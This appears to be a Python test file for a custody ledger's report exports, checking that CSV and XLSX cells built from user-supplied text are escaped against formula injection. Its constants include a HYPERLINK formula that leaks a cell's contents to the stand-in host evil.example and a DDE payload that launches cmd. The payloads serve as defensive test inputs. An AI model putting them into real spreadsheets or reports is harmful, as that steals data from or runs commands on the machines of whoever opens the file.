"""No CSV or XLSX cell starts a formula (CSV injection): hostile text signed into a statement
(an order id, a key's label, a revocation reason, the FX source) reaches every report as
text, on both databases, while the report's own negative amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import Engine

from sequestra.ledger.keys import SigningKey
from sequestra.pricing.fx import FixedRate
from sequestra.pricing.run import Valuer
from sequestra.reports.cells import safe_cell
from tests.composed import REPORTS, RULES
from tests.custody.conftest import custody  # noqa: F401
from tests.pricing.test_run import valuer_key, venues  # noqa: F401
from tests.reports.conftest import Books, books  # noqa: F401

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
LEADS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = (HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: data_type is the cell's own
    return [
        (cell.data_type, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.lstrip("-").replace(".", "", 1).isdigit()


def _no_formula(engine: Engine, kind: str) -> tuple[list[str], list[tuple[str, object]]]:
    cells = _csv_cells(REPORTS.render(engine, kind, "csv").data)
    for cell in cells:
        assert not cell.startswith(LEADS) or _is_number(cell), (kind, cell)
    sheet_cells = _xlsx_cells(REPORTS.render(engine, kind, "xlsx").data)
    for data_type, value in sheet_cells:
        assert data_type != "f", (kind, value)
        text = str(value)
        assert not text.startswith(LEADS) or _is_number(text), (kind, text)
    return cells, sheet_cells


def _hostile_valuation(books: Books) -> None:  # noqa: F811
    valuer = Valuer(
        books.custody.world.engine,
        RULES,
        venues(books.custody),
        FixedRate(Decimal("512.34"), name=HOSTILE),
        books.valuer_key,
    )
    now = books.custody.world.now
    valuer.revalue(cutoff=now + timedelta(seconds=3), now_utc=now + timedelta(seconds=4))


def test_hostile_statement_text_is_never_a_formula(books: Books) -> None:  # noqa: F811
    world, fund = books.custody.world, books.fund
    fund.append(fund.propose("S-1", "150000000"))
    fund.append(fund.approve("S-1"))
    order = fund.execute("S-1", "50000000")
    body = dict(order.statement["body"], venue_order_id=HOSTILE)
    fund.append(fund.sign("sale.executed", body))
    hostile_keys = [SigningKey.generate() for _ in HOSTILE_TEXTS]
    for key, text in zip(hostile_keys, HOSTILE_TEXTS, strict=True):
        books.custody.append(world.enroll(key, ["approver"], text))
    revoke: dict[str, object] = {"issuer": hostile_keys[0].issuer, "reason": HOSTILE}
    books.custody.append(world.admin_statement("key.revoked", revoke))
    books.revalue(2, btc="90000")
    _hostile_valuation(books)  # the current valuation: its FX source is hostile

    for kind in ("valuation", "exposure", "sales", "audit"):
        _no_formula(world.engine, kind)
    sales, sales_sheets = _no_formula(world.engine, "sales")
    assert "'" + HOSTILE in sales and ("s", "'" + HOSTILE) in sales_sheets
    audit, audit_sheets = _no_formula(world.engine, "audit")
    for text in HOSTILE_TEXTS:
        assert "'" + text in audit and ("s", "'" + text) in audit_sheets
    _, valuation = _no_formula(world.engine, "valuation")
    assert any(str(value).startswith("'" + HOSTILE) for _, value in valuation)


def test_the_reports_own_negative_amounts_stay_numbers(books: Books) -> None:  # noqa: F811
    books.revalue(1)
    books.revalue(2, btc="90000")  # BTC falls: the change per asset is negative
    valuation = _xlsx_cells(REPORTS.render(books.custody.world.engine, "valuation", "xlsx").data)
    negatives = [value for _, value in valuation if str(value).startswith("-")]
    assert negatives and all(_is_number(str(value)) for value in negatives)
    for kind in ("valuation", "exposure", "sales", "audit"):
        _no_formula(books.custody.world.engine, kind)


def test_safe_cell() -> None:
    assert safe_cell(HOSTILE) == "'" + HOSTILE
    for text in HOSTILE_TEXTS:
        assert safe_cell(text) == "'" + text
    for kept in ("-12.50", "-3", "0.5", "AFM-2025-0001", "", "kraken BTC/USD", "'=x", " =x"):
        assert safe_cell(kept) == kept
    for refused in ("-", "-1e5", "--1", "-1.", "-.5", "=", "@", "-1+1", "\n=1"):
        assert safe_cell(refused) == "'" + refused
